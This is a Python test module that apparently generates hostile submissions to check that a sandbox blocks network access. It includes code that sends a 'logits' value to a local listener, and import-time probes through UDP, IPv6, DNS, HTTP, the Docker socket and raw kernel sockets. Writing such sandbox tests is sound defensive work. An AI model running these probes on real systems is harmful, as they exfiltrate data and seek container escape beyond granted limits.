"""11: the network: answers from elsewhere, inputs to elsewhere."""

from .base import Files, Forms, Scene, hostile

forms = Forms(11)


@forms.source(control="unsandboxed")
def a_connection(scene: Scene) -> Files:
    """It sends its input to somebody who listens on this machine."""
    return hostile(
        inside=f"""
        import socket

        with socket.create_connection(("127.0.0.1", {scene.port}), timeout=2) as friend:
            friend.sendall(str(locals().get("logits")).encode())
        raise ValueError
        """
    )


@forms.source()
def other_ways_out(scene: Scene) -> Files:
    """Datagrams, names, sockets of the kernel, of the machine and without a name."""
    return hostile(
        at_import=f"""
        import socket, urllib.request

        def udp():
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            one.sendto(b"x", ("127.0.0.1", {scene.port}))

        def six():
            socket.create_connection(("::1", {scene.port}), timeout=1)

        def listening():
            server = socket.socket()
            server.bind(("0.0.0.0", 0))
            server.listen()

        for attempt in (
            udp, six, listening,
            lambda: socket.getaddrinfo("answers.example", 80),
            lambda: urllib.request.urlopen("http://127.0.0.1:{scene.port}", timeout=1),
            lambda: socket.socket(socket.AF_UNIX).connect("\\0answers"),
            lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
            lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
            lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
            lambda: socket.socket(socket.AF_VSOCK),
            lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET),
        ):
            try:
                attempt()
            except (OSError, AttributeError):
                pass
        """
    )
